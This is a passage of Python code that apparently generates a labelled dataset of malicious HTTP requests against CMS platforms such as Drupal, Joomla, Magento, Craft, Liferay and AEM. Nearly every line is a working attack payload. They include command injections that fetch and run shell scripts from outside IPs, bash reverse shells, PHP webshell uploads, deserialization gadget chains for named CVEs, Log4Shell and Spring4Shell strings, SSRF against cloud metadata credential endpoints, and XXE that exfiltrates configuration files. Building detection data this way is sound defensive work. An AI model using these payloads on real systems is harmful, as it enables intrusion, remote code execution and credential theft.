    A(c, S, "strapi_plugin_install", "POST", "/admin/plugins/install", ah(host("strapi"), "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + jwt_like()]]),
      jdump({"plugin": "documentation;curl${IFS}-fsSL${IFS}http://45.95.147.12/k.sh|sh", "port": "1337"}))
    # Craft CMS CVE-2023-41892 Imagick MSL variant
    A(c, S, "craft_cve_2023_41892", "POST", "/index.php", ah(host("craft"), FORM),
      form([("action", "conditions/render"), ("test[userCondition]", "craft\\elements\\conditions\\users\\UserCondition"),
            ("config", '{"name":"test[userCondition]","as xyz":{"class":"Imagick","__construct()":{"files":"vid:msl:/tmp/php*"}}}')]))
    msl = ('<?xml version="1.0" encoding="UTF-8"?>\n<image>\n<read filename="caption:&lt;?php @system(@$_REQUEST[\'c\']); ?&gt;"/>\n'
           '<write filename="info:/var/www/html/web/shell.php"/>\n</image>\n')
    ctype, body = multipart([("action", "conditions/render"), ("configObject[class]", "craft\\elements\\conditions\\ElementCondition"),
                             ("config", '{"name":"configObject","as ":{"class":"Imagick", "__construct()":{"files":"msl:/dev/null"}}}'), ("image", msl, "exp.msl", "text/plain")])
    A(c, S, "craft_cve_2023_41892", "POST", "/index.php", ah(host("craft"), ctype), body)
    # Umbraco XSLT visualize (authenticated RCE)
    xslt = ('<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:csharp_user="http://csharp.mycompany.com/mynamespace">'
            '<msxsl:script language="C#" implements-prefix="csharp_user">public string xml() { System.Diagnostics.Process proc = new System.Diagnostics.Process(); proc.StartInfo.FileName = "cmd.exe"; '
            'proc.StartInfo.Arguments = "/c whoami"; proc.StartInfo.UseShellExecute = false; proc.StartInfo.RedirectStandardOutput = true; proc.Start(); return proc.StandardOutput.ReadToEnd(); }</msxsl:script>'
            '<xsl:template match="/"><xsl:value-of select="csharp_user:xml()"/></xsl:template></xsl:stylesheet>')
    A(c, S, "umbraco_xslt", "POST", "/umbraco/developer/Xslt/xsltVisualize.aspx", ah(host("umbraco"), FORM, cookie=ck_umbraco()),
      form([("__EVENTTARGET", ""), ("__VIEWSTATE", tok(120, B64URL)), ("ctl00$body$xsltSelection", xslt), ("ctl00$body$contentPicker$ContentIdValue", ""), ("ctl00$body$visualizeDo", "Visualize+XSLT")]))
    # command injection in CMS tool parameters
    A(c, S, "image_toolkit", "POST", "/admin/config/media/image-toolkit", ah(host("drupal"), FORM, cookie=ck_drupal()),
      form([("image_toolkit", "imagemagick"), ("imagemagick[suite][path_to_binaries]", "/usr/bin/;curl -s http://45.95.147.12/i.sh|sh;#"), ("form_build_id", form_build_id()),
            ("form_token", form_token()), ("form_id", "system_image_toolkit_settings"), ("op", "Save configuration")]))
    A(c, S, "image_style_effect", "POST", "/admin/config/media/image-styles/manage/thumbnail/add/imagemagick_arguments", ah(host("drupal"), FORM, cookie=ck_drupal()),
      form([("data[command_line]", "-resize 100x100 `id > /var/www/html/sites/default/files/o.txt`"), ("form_build_id", form_build_id()), ("form_token", form_token()),
            ("form_id", "image_effect_form"), ("op", "Add effect")]))
    A(c, S, "magento_export", "POST", "/admin/admin/export/export/key/%s/" % hexs(64), ah(host("magento"), FORM, cookie="admin=" + tok(26, "abcdefghijklmnopqrstuv0123456789")),
      form([("form_key", tok(16)), ("attribute_code", ""), ("entity", "catalog_product"), ("file_format", "csv$(wget -O- http://103.56.17.4/m.sh|bash)"), ("fields_enclosure", "0")]))
    A(c, S, "typo3_ping_tool", "GET", "/typo3/module/tools/network?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd&token=" + hexs(40), ah(host("typo3"), cookie=ck_typo3(True)))
    A(c, S, "webhook_command", "POST", "/admin/deploy/hooks/save", ah(host("craft"), FORM, cookie=ck_craft()),
      form([("CRAFT_CSRF_TOKEN", hexs(64)), ("command", "git pull origin main && bash -i >& /dev/tcp/10.13.37.1/9001 0>&1"), ("branch", "main")]))
    A(c, S, "sitecore_report_ashx", "POST", "/sitecore/shell/ClientBin/Reporting/Report.ashx", ah(host("sitecore"), "text/xml"),
      '<?xml version="1.0" ?><a><query></query><source>foo</source><parameters><parameter name=""><ArrayOfstring z:Id="1" z:Type="System.Collections.Generic.SortedSet`1[[System.String, mscorlib]]" '
      'xmlns="http://schemas.microsoft.com/2003/10/Serialization/Arrays" xmlns:i="http://www.w3.org/2001/XMLSchema-instance" xmlns:z="http://schemas.microsoft.com/2003/10/Serialization/"><Count z:Id="2" z:Type="System.Int32" z:Assembly="0" '
      'xmlns="">2</Count><Comparer z:Id="3" z:Type="System.Collections.Generic.ComparisonComparer`1[[System.String, mscorlib]]" z:Assembly="0" xmlns=""><_comparison z:Id="4" z:FactoryType="a:DelegateSerializationHolder" '
      'z:Type="System.DelegateSerializationHolder" xmlns="http://schemas.datacontract.org/2004/07/System.Collections.Generic.Comparer`1[[System.String, mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089]]" '
      'xmlns:a="http://schemas.datacontract.org/2004/07/System"><Delegate z:Id="5" z:Type="System.DelegateSerializationHolder+DelegateEntry" xmlns=""><a:assembly z:Id="6">mscorlib</a:assembly><a:methodName z:Id="7">Start</a:methodName>'
      '<a:targetTypeName z:Id="8">System.Diagnostics.Process</a:targetTypeName></Delegate></_comparison></Comparer><Version z:Id="9" z:Type="System.Int32">2</Version><Items z:Id="10" z:Type="System.String[]">'
      '<string z:Id="11" xmlns="">/c ping -n 3 10.13.37.1</string><string z:Id="12" xmlns="">cmd</string></Items></ArrayOfstring></parameter></parameters></a>')
    A(c, S, "powershell_field", "POST", "/umbraco/surface/ContactSurface/Submit", ah(host("umbraco"), FORM),
      form([("Name", "x"), ("Email", "a@b.c"), ("Message", "|powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"), ("ufprt", tok(180, B64URL))]))
    A(c, S, "certutil_field", "GET", "/api/search?query=x%26certutil%20-urlcache%20-split%20-f%20http%3A%2F%2F45.95.147.12%2Fa.exe%20%25TEMP%25%5Ca.exe%26%25TEMP%25%5Ca.exe", ah(host("sitecore"), accept=ACCEPT_JSON))
    A(c, S, "node_child_process", "POST", "/api/globals/settings", ah(host("node"), "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "JWT " + jwt_like()]]),
      jdump({"footerScript": "require('child_process').execSync('curl http://45.95.147.12/p.sh | sh').toString()"}))
    A(c, S, "backtick_form", "POST", "/index.php?option=com_rsform&view=rsform&formId=3", ah(host("joomla"), FORM),
      form([("form[Name]", "`/bin/busybox wget http://103.56.17.4/bins/x86 -O /tmp/x; chmod 777 /tmp/x; /tmp/x`"), ("form[Email]", "a@b.c"), ("form[formId]", "3")]))
    A(c, S, "ifs_query", "GET", "/index.php?option=com_ajax&plugin=imagetool&format=raw&src=a.jpg;cat${IFS}/etc/passwd;", ah(host("joomla")))


# ---------------------------------------------------------------- PHP: deserialization, wrappers, code injection, uploads

def attacks_php(c):
    S = "php"
    # Drupal 8 REST unserialize (CVE-2019-6340)
    ser = ('O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\u0000GuzzleHttp\\Psr7\\FnStream\u0000methods";a:1:{s:5:"close";a:2:{i:0;O:23:"GuzzleHttp\\HandlerStack":3:{s:32:"\u0000GuzzleHttp\\HandlerStack\u0000handler";s:2:"id";'
           's:30:"\u0000GuzzleHttp\\HandlerStack\u0000stack";a:1:{i:0;a:1:{i:0;s:6:"system";}}s:31:"\u0000GuzzleHttp\\HandlerStack\u0000cached";b:0;}i:1;s:7:"resolve";}}s:9:"_fn_close";a:2:{i:0;r:4;i:1;s:7:"resolve";}}')
    h = host("drupal")
    A(c, S, "drupal_cve_2019_6340", "POST", "/node/1?_format=hal_json", ah(h, "application/hal+json", accept="*/*"),
      json.dumps({"link": [{"value": "link", "options": ser}], "_links": {"type": {"href": "https://%s/rest/type/shortcut/default" % h}}}))
    A(c, S, "drupal_cve_2019_6340", "GET", "/node/3?_format=hal_json", ah(host("drupal"), "application/hal+json", accept="*/*"),
      json.dumps({"link": [{"value": "link", "options": ser.replace('s:2:"id"', 's:26:"curl 103.56.17.4/d.sh | sh"')}], "_links": {"type": {"href": "http://localhost/rest/type/shortcut/default"}}}))
    # Joomla session object injection (CVE-2015-8562), bytes after the payload are not UTF-8
    inj = ('}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnectHandlers";a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}'
           's:8:"feed_url";s:%d:"%s";s:19:"cache_name_function";s:6:"assert";s:5:"cache";b:1;s:11:"cache_class";O:20:"JDatabaseDriverMysql":0:{}}i:1;s:4:"init";}}s:13:"\\0\\0\\0connection";b:1;}')
    code1 = "eval(base64_decode($_SERVER['HTTP_X_CMD']));JFactory::getConfig();exit"
    code2 = "phpinfo();JFactory::getConfig();exit"
    for code, hdr in ((code1, "User-Agent"), (code2, "X-Forwarded-For")):
        payload = (inj % (len(code), code)).encode() + b"\xf0\xfd\xfd\xfd"
        jh = host("joomla")
        head = ("GET / HTTP/1.1\r\nHost: %s\r\n" % jh).encode()
        if hdr == "User-Agent":
            head += b"User-Agent: " + payload + b"\r\nX-Cmd: c3lzdGVtKCdpZCcpOw==\r\n"
        else:
            head += ("User-Agent: %s\r\n" % aua()).encode() + b"X-Forwarded-For: " + payload + b"\r\n"
        head += b"Accept: */*\r\nConnection: close\r\n\r\n"
        AR(c, S, "joomla_cve_2015_8562", None, None, None, raw_head=head)
    # Craft CMS CVE-2023-41892 (FnStream gadget)
    A(c, S, "craft_cve_2023_41892", "POST", "/index.php", ah(host("craft"), FORM),
      form([("action", "conditions/render"), ("test[userCondition]", "craft\\elements\\conditions\\users\\UserCondition"),
            ("config", '{"name":"test[userCondition]","as xyz":{"class":"\\\\GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[{"close":null}],"_fn_close":"phpinfo"}}')]))
    # Magento unserialize in payment additional_information (CVE-2016-4010 style)
    A(c, S, "magento_unserialize", "PUT", "/rest/V1/guest-carts/%s/payment-information" % tok(32), ah(host("magento"), "application/json", accept="*/*"),
      jdump({"paymentMethod": {"method": "checkmo", "additional_data": {"additional_information": 'O:13:"Credis_Client":22:{s:8:"\u0000*\u0000redis";O:45:"Magento\\Sales\\Model\\Order\\Payment\\Transaction":40:{s:9:"\u0000*\u0000_data";a:1:{s:7:"txn_id";s:29:"a:1:{i:0;s:9:\\"phpinfo()\\";}";}}}'}}, "email": "x@x.x"}))
    # TYPO3 Extbase __referrer[@request] serialized object
    A(c, S, "typo3_extbase_referrer", "POST", "/kontakt?tx_form_formframework%5Baction%5D=perform&tx_form_formframework%5Bcontroller%5D=FormFrontend", ah(host("typo3"), FORM),
      form([("tx_form_formframework[__referrer][@request]", 'a:4:{s:10:"@extension";O:33:"TYPO3\\CMS\\Core\\Log\\Writer\\FileWriter":1:{s:10:"\u0000*\u0000logFile";s:22:"../fileadmin/x.php";}s:11:"@controller";s:12:"FormFrontend";s:7:"@action";s:7:"perform";s:7:"@vendor";s:0:"";}' + hexs(40)),
            ("tx_form_formframework[contactform-123][name]", "x")]))
    # PHAR deserialization via file paths accepted by the CMS
    A(c, S, "phar_wrapper", "POST", "/admin/config/media/file-system", ah(host("drupal"), FORM, cookie=ck_drupal()),
      form([("file_temporary_path", "phar://./sites/default/files/pictures/2024-06/avatar.jpg/x.txt"), ("file_default_scheme", "public"), ("form_build_id", form_build_id()),
            ("form_token", form_token()), ("form_id", "system_file_system_settings"), ("op", "Save configuration")]))
    A(c, S, "phar_wrapper", "POST", "/administrator/index.php?option=com_content&view=article&layout=edit&id=12", ah(host("joomla"), FORM, cookie=ck_joomla()),
      form([("jform[title]", "x"), ("jform[images][image_intro]", "phar:///var/www/html/images/banners/logo.jpg/test.txt#joomlaImage://local-images/x.jpg"), ("task", "article.apply"), (hexs(32), "1")]))
    A(c, S, "phar_wrapper", "GET", "/typo3/index.php?route=%2Ffile%2Finfo&token=" + hexs(40) + "&uid=PHAR%3A%2F%2F..%2Ffileadmin%2Fuser_upload%2Fthumb.jpg%2Fa", ah(host("typo3"), cookie=ck_typo3(True)))
    phar_jpg = (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(R.randrange(256) for _ in range(64)) +
                b"<?php __HALT_COMPILER(); ?>\r\n" + b"\x9b\x00\x00\x00\x01\x00\x00\x00\x11\x00\x00\x00\x01\x00\x00\x00\x00\x00e\x00\x00\x00" +
                b'O:31:"GuzzleHttp\\Cookie\\FileCookieJar":4:{s:36:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:34:"/var/www/html/sites/default/files/x.php";s:52:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies";b:1;}' +
                b"\x08\x00\x00\x00test.txt\x04\x00\x00\x00" + bytes(R.randrange(256) for _ in range(24)) + b"GBMB")
    ctype, body = multipart([("files[user_picture_0]", phar_jpg, "avatar.jpg", "image/jpeg"), ("form_build_id", form_build_id()), ("form_token", form_token()),
                             ("form_id", "user_form"), ("op", "Save")])
    AR(c, S, "phar_polyglot_upload", "POST", "/user/%d/edit" % R.randint(2, 90), ah(host("drupal"), ctype, cookie=ck_drupal()), body)
    # PHP wrappers
    A(c, S, "php_filter", "GET", "/index.php?option=com_content&view=article&id=1&layout=php://filter/convert.base64-encode/resource=../configuration.php", ah(host("joomla")))
    A(c, S, "php_filter", "GET", "/index.php?template=PHP://filter/read=string.rot13/resource=/var/www/html/app/etc/env.php", ah(host("magento")))
    A(c, S, "php_input", "POST", "/index.php?file=php://input", ah(host("concrete"), FORM), "<?php system('id; uname -a'); ?>")
    A(c, S, "expect_wrapper", "GET", "/index.php?option=com_jce&task=plugin&plugin=imgmanager&file=expect://id", ah(host("joomla")))
    # PHP code injection through editors that evaluate code
    A(c, S, "drupal_php_filter", "POST", "/node/%d/edit" % R.randint(1, 900), ah(host("drupal"), FORM, cookie=ck_drupal()),
      form([("title", "x"), ("body[und][0][value]", "<?php if(isset($_REQUEST['c'])){ echo shell_exec($_REQUEST['c']); } ?>"), ("body[und][0][format]", "php_code"),
            ("form_build_id", form_build_id()), ("form_token", form_token()), ("form_id", "page_node_form"), ("op", "Save")]))
    A(c, S, "joomla_template_editor", "POST", "/administrator/index.php?option=com_templates&view=template&id=506&file=L2Vycm9yLnBocA", ah(host("joomla"), FORM, cookie=ck_joomla()),
      form([("jform[source]", "<?php\n@eval(base64_decode($_POST['z0']));\ndefined('_JEXEC') or die;\n?>"), ("task", "template.apply"), (hexs(32), "1")]))
    A(c, S, "magento_wysiwyg", "POST", "/admin/cms/page/save/key/%s/" % hexs(64), ah(host("magento"), FORM, cookie="admin=" + tok(26, "abcdefghijklmnopqrstuv0123456789")),
      form([("title", "x"), ("content", "<p>${@assert($_POST[x])}</p><?=`$_GET[0]`?>"), ("form_key", tok(16))]))
    A(c, S, "concrete_block", "POST", "/index.php/ccm/system/block/edit/submit/?cID=1&arHandle=Main&bID=9", ah(host("concrete"), FORM, extra=[["X-Requested-With", "XMLHttpRequest"]]),
      form([("content", "<p>hi</p><?php $f=create_function('',$_POST['p']);$f(); ?>"), ("ccm_token", "1717000000:" + hexs(32))]))
    A(c, S, "preg_replace_e", "GET", "/index.php?option=com_k2&view=itemlist&task=search&searchword=x&pattern=/.*/e&replacement=system(%27id%27)", ah(host("joomla")))
    # webshell uploads
    gif_shell = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;<?php echo '<pre>'; system($_GET['cmd']); ?>"
    ctype, body = multipart([("Filedata", gif_shell, "banner.phtml", "image/gif"), ("folder", "local-images:/banners")])
    AR(c, S, "webshell_upload", "POST", "/administrator/index.php?option=com_media&task=api.files&format=json&%s=1" % hexs(32), ah(host("joomla"), ctype, cookie=ck_joomla(), accept=ACCEPT_JSON), body)
    ctype, body = multipart([("files", b"<?php\n$k='e10adc39';$x=$_POST[$k];if($x){@eval(gzinflate(base64_decode($x)));}\n", "invoice.php.jpg", "image/jpeg"),
                             ("fileInfo", '{"name":"invoice.php.jpg"}')], style="node")
    A(c, S, "webshell_upload", "POST", "/api/upload", ah(host("strapi"), ctype, accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + tok(200, "abcdef0123456789")]]), body)
    ctype, body = multipart([("files[upload][]", "AddType application/x-httpd-php .jpg\nphp_flag engine on\n", ".htaccess", "text/plain"), ("form_id", "media_library_add_form_upload"),
                             ("_triggering_element_name", "files[upload]")])
    A(c, S, "htaccess_upload", "POST", "/media-library?_wrapper_format=drupal_ajax&ajax_form=1&element_parents=upload", ah(host("drupal"), ctype, cookie=ck_drupal(), accept=ACCEPT_JSON), body)


# ---------------------------------------------------------------- Java CMSes (AEM, Liferay, Magnolia) and Java payloads at CMS front doors

def attacks_java(c):
    S = "java"
    A(c, S, "log4shell_header", "GET", "/content/bigbank/en/home.html", ah(host("aem"), extra=[["X-Api-Version", "${jndi:ldap://c3vq8k2j.oast.fun/a}"]]))
    A(c, S, "log4shell_header", "GET", "/", [["Host", host("liferay")], ["User-Agent", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://45.95.147.12:1389/Exploit}"], ["Accept", "*/*"]])
    A(c, S, "log4shell_query", "GET", "/search?q=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7D%24%7B%3A%3A-d%7D%24%7B%3A%3A-i%7D%3Armi%3A%2F%2F103.56.17.4%3A1099%2Fobj%7D", ah(host("liferay")))
    A(c, S, "log4shell_body", "POST", "/.magnolia/admincentral", ah(host("aem"), FORM), form([("mgnlUserId", "${jndi:dns://${hostName}.c3vq8k2j.oast.fun}"), ("mgnlUserPSWD", "x")]))
    A(c, S, "liferay_jsonws_c3p0", "POST", "/api/jsonws/invoke", ah(host("liferay"), FORM, accept=ACCEPT_JSON),
      form([("cmd", '{"/expandocolumn/update-column":{}}'), ("p_auth", tok(8)), ("formDate", str(1717000000000)), ("columnId", "123"), ("name", "asdasd"), ("type", "1"),
            ("defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource", '{"userOverridesAsString":"HexAsciiSerializedMap:ACED0005737200116A6176612E7574696C2E48617368536574BA44859596B8B7340300007870770C000000023F40000000000001737200346F72672E6170616368652E636F6D6D6F6E732E636F6C6C656374696F6E732E6B657976616C75652E546965644D6170456E7472798AADD29B39C11FDB0200024C00036B65797400124C6A6176612F6C616E672F4F626A6563743B;"}')]))
    A(c, S, "aem_groovy_console", "POST", "/bin/groovyconsole/post.json", ah(host("aem"), FORM, accept=ACCEPT_JSON),
      form([("script", 'def sout = new StringBuilder(); def proc = "cat /etc/passwd".execute(); proc.consumeProcessOutput(sout, sout); proc.waitForOrKill(2000); println sout')]))
    A(c, S, "java_deser_cookie", "GET", "/.magnolia/pages/home.html", ah(host("aem"), cookie="JSESSIONID=" + hexs(32).upper() + "; rememberMe=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3Lj"))
    A(c, S, "spring4shell", "POST", "/portal/contact", ah(host("liferay"), FORM),
      "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di"
      "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
      "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")
    A(c, S, "ognl_param", "GET", "/opencms/system/login/index.html?redirect=%25%7B(%23_memberAccess%5B%27allowStaticMethodAccess%27%5D%3Dtrue).(%40java.lang.Runtime%40getRuntime().exec(%27id%27))%7D", ah(host("liferay")))
    A(c, S, "java_el", "POST", "/api/jsonws/journal.journalarticle/search", ah(host("liferay"), FORM, accept=ACCEPT_JSON),
      form([("keywords", "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}"), ("start", "0"), ("end", "20")]))


# ---------------------------------------------------------------- SSRF

def attacks_ssrf(c):
    S = "ssrf"
    A(c, S, "drupal_oembed", "GET", "/media/oembed?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F&max_width=0&max_height=0&hash=" + tok(43, B64URL), ah(host("drupal")))
    A(c, S, "drupal_remote_video", "POST", "/media/add/remote_video", ah(host("drupal"), FORM, cookie=ck_drupal()),
      form([("field_media_oembed_video[0][value]", "http://127.0.0.1:8983/solr/admin/cores?action=STATUS"), ("name[0][value]", "clip"), ("form_build_id", form_build_id()), ("form_token", form_token()),
            ("form_id", "media_remote_video_add_form"), ("op", "Save")]))
    A(c, S, "ghost_oembed", "GET", "/ghost/api/admin/oembed/?url=http%3A%2F%2F127.0.0.1%3A2368%2Fghost%2Fapi%2Fadmin%2Fusers%2F&type=embed", ah(host("ghost"), accept=ACCEPT_JSON, cookie=ck_ghost()))
    A(c, S, "ghost_oembed", "GET", "/ghost/api/admin/oembed/?url=http%3A%2F%2F%5Bfd00%3Aec2%3A%3A254%5D%2Flatest%2Fmeta-data%2F&type=bookmark", ah(host("ghost"), accept=ACCEPT_JSON, cookie=ck_ghost()))
    A(c, S, "directus_import", "POST", "/files/import", ah(host("directus"), "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + tok(32, B64URL)]]),
      jdump({"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "data": {"title": "x"}}))
    A(c, S, "directus_import", "POST", "/files/import", ah(host("directus"), "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + tok(32, B64URL)]]),
      jdump({"url": "http://0x7f000001:8055/server/info", "data": {"title": "logo"}}))
    A(c, S, "strapi_webhook", "POST", "/admin/webhooks", ah(host("strapi"), "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + jwt_like()]]),
      jdump({"name": "deploy", "url": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "headers": {"Metadata-Flavor": "Google"}, "events": ["entry.create"]}))
    A(c, S, "magento_retrieve_image", "POST", "/admin/product_video/product_gallery/retrieveImage/key/%s/?isAjax=true" % hexs(64), ah(host("magento"), FORM, cookie="admin=" + tok(26, "abcdefghijklmnopqrstuv0123456789")),
      form([("remote_image", "http://127.0.0.1:6379/"), ("form_key", tok(16))]))
    A(c, S, "joomla_install_url", "POST", "/administrator/index.php?option=com_installer&view=install", ah(host("joomla"), FORM, cookie=ck_joomla()),
      form([("install_url", "http://10.0.0.5:8500/v1/agent/self"), ("installtype", "url"), ("task", "install.install"), (hexs(32), "1")]))
    A(c, S, "gopher_redis", "POST", "/admin/config/services/aggregator/add/feed", ah(host("drupal"), FORM, cookie=ck_drupal()),
      form([("title[0][value]", "News"), ("url[0][value]", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2464%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20/dev/tcp/10.13.37.1/4444%200%3E%261%0A%0A%0D%0A"),
            ("refresh", "3600"), ("form_build_id", form_build_id()), ("form_token", form_token()), ("form_id", "aggregator_feed_form"), ("op", "Save")]))
    A(c, S, "file_scheme", "POST", "/files/import", ah(host("directus"), "application/json", accept=ACCEPT_JSON, extra=[["Authorization", "Bearer " + tok(32, B64URL)]]),
      jdump({"url": "file:///etc/passwd"}))
    A(c, S, "dict_scheme", "GET", "/umbraco/feedproxy.aspx?url=dict://127.0.0.1:11211/stats", ah(host("umbraco")))
    A(c, S, "umbraco_feedproxy", "GET", "/umbraco/feedproxy.aspx?url=http://2852039166/latest/meta-data/", ah(host("umbraco")))
    A(c, S, "contentful_webhook_cfg", "POST", "/spaces/%s/webhook_definitions" % tok(12, "abcdefghijklmnopqrstuvwxyz0123456789"), ah("api.contentful.com", "application/vnd.contentful.management.v1+json", accept=ACCEPT_JSON, extra=[["Authorization", "Bearer CFPAT-" + tok(43, B64URL)]]),
      jdump({"name": "sync", "url": "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "topics": ["Entry.publish"], "headers": []}))
    A(c, S, "craft_feedme", "POST", "/admin/feed-me/feeds/save-feed", ah(host("craft"), FORM, cookie=ck_craft()),
      form([("CRAFT_CSRF_TOKEN", hexs(64)), ("name", "products"), ("feedUrl", "http://[::ffff:127.0.0.1]:9200/_cat/indices?v"), ("feedType", "json"), ("primaryElement", "data")]))
    A(c, S, "octal_ip", "GET", "/index.php?option=com_ajax&plugin=linkcheck&format=json&url=http://0251.0376.0251.0376/latest/user-data", ah(host("joomla"), accept=ACCEPT_JSON))
    A(c, S, "shopify_proxy_shop", "GET", "/apps/reviews/widget?shop=169.254.169.254%2Flatest%2Fmeta-data%2F%23.myshopify.com&path_prefix=%2Fapps%2Freviews&timestamp=1717000000&signature=" + hexs(64),
      [["Host", host("shopify")], ["User-Agent", aua()], ["Accept", "*/*"]])


# ---------------------------------------------------------------- XXE (CosmicSting and XML imports)

def attacks_xxe(c):
    S = "xxe"
    dtd = '<?xml version="1.0" ?> <!DOCTYPE r [ <!ELEMENT r ANY > <!ENTITY % sp SYSTEM "http://c3vq8k2j.oast.fun/dtd.xml"> %sp; %param1; ]> <r>&exfil;</r>'
    A(c, S, "magento_cosmicsting", "POST", "/rest/V1/guest-carts/test-assetnote/estimate-shipping-methods", ah(host("magento"), "application/json", accept="*/*"),
      jdump({"address": {"totalsReader": {"collectorList": {"totalCollector": {"sourceData": {"data": dtd, "options": 16}}}}}}))
    A(c, S, "magento_cosmicsting", "POST", "/rest/all/V1/guest-carts/%s/estimate-shipping-methods" % tok(32), ah(host("magento"), "application/json", accept="*/*"),
      json.dumps({"address": {"totalsReader": {"collectorList": {"totalCollector": {"sourceData": {"data": dtd.replace("dtd.xml", "x.dtd").replace("<", "\\u003c") , "options": 12345678}}}}}}).replace("\\\\u003c", "\\u003c"))
    A(c, S, "magento_cosmicsting", "POST", "/rest/default/V1/carts/mine/estimate-shipping-methods", ah(host("magento"), "application/json", accept="*/*", extra=[["Authorization", "Bearer " + tok(32, "abcdefghijklmnopqrstuvwxyz0123456789")]]),
      jdump({"address": {"totalsCollector": {"collectorList": {"totalCollector": {"sourceData": {"data": "http://45.95.147.12/cs.xml", "dataIsURL": True, "options": "16"}}}}}}))
    A(c, S, "magento_cosmicsting", "POST", "/rest/V1/guest-carts/abc/estimate-shipping-methods", ah(host("magento"), "application/json", accept="*/*"),
      jdump({"address": {"totalsReader": {"collectorList": {"totalCollector": {"sourceData": {"data": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/app/etc/env.php"><!ENTITY % b SYSTEM "http://c3vq8k2j.oast.fun/x.dtd">%b;]><r>&c;</r>', "options": 16}}}}}}))
    A(c, S, "magento_soap", "POST", "/soap/default?services=catalogProductRepositoryV1", ah(host("magento"), "text/xml; charset=utf-8", accept="*/*", extra=[["SOAPAction", "catalogProductRepositoryV1GetList"]]),
      '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///var/www/html/app/etc/env.php">]>\n<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><catalogProductRepositoryV1GetRequest><sku>&xxe;</sku></catalogProductRepositoryV1GetRequest></soap:Body></soap:Envelope>')
    svg = '<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [ <!ENTITY xxe SYSTEM "file:///etc/passwd" > ]>\n<svg width="512px" height="128px" xmlns="http://www.w3.org/2000/svg"><text font-size="14" x="0" y="16">&xxe;</text></svg>\n'
    ctype, body = multipart([("files[upload][]", svg, "icon.svg", "image/svg+xml"), ("form_id", "media_library_add_form_upload"), ("_triggering_element_name", "files[upload]"), ("_drupal_ajax", "1")])
    A(c, S, "svg_upload", "POST", "/media-library?_wrapper_format=drupal_ajax&ajax_form=1&element_parents=upload", ah(host("drupal"), ctype, cookie=ck_drupal(), accept=ACCEPT_JSON), body)
    A(c, S, "feeds_import", "POST", "/import/rss_feed", ah(host("drupal"), "application/rss+xml", cookie=ck_drupal()),
      '<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE rss [<!ELEMENT rss ANY><!ENTITY % remote SYSTEM "http://45.95.147.12/evil.dtd">%remote;%init;%trick;]>\n<rss version="2.0"><channel><title>News</title><item><title>x</title></item></channel></rss>')
    A(c, S, "typo3_t3d_import", "POST", "/typo3/module/web/impexp/import?token=" + hexs(40), ah(host("typo3"), "application/xml", cookie=ck_typo3(True)),
